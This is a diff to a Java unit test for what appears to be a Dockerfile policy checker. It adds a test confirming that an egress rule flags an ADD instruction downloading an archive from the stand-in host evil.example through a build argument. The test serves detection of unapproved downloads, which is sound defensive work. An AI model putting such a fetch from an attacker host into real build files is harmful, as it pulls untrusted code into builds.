@@ -28,8 +28,22 @@ class ExpansionTest {
                 null, triggers));
     }
 
+    /**
+     * The errors but {@code add-url-outside-egress}, which fires on every URL these cases make (team payments has no
+     * egress allowlist here); that it sees the same expanded sources is {@link #theEgressRuleJudgesTheExpandedSource}.
+     */
     private static List<Finding> errors(Evaluation e) {
-        return e.findings().stream().filter(f -> f.severity() == Finding.Severity.error).toList();
+        return e.findings().stream().filter(f -> f.severity() == Finding.Severity.error)
+                .filter(f -> !f.rule().equals("add-url-outside-egress")).toList();
+    }
+
+    @Test
+    void theEgressRuleJudgesTheExpandedSource() {
+        Evaluation e = eval(BASE + "ARG U=https://evil.example/a.tgz\nADD --checksum=sha256:" + "a".repeat(64)
+                + " $U /x\nUSER 1\n", Map.of());
+        assertThat(e.findings()).filteredOn(f -> f.severity() == Finding.Severity.error)
+                .extracting(Finding::rule, Finding::line)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("add-url-outside-egress", 3));
     }
 
     private static List<String> errorRules(Evaluation e) {
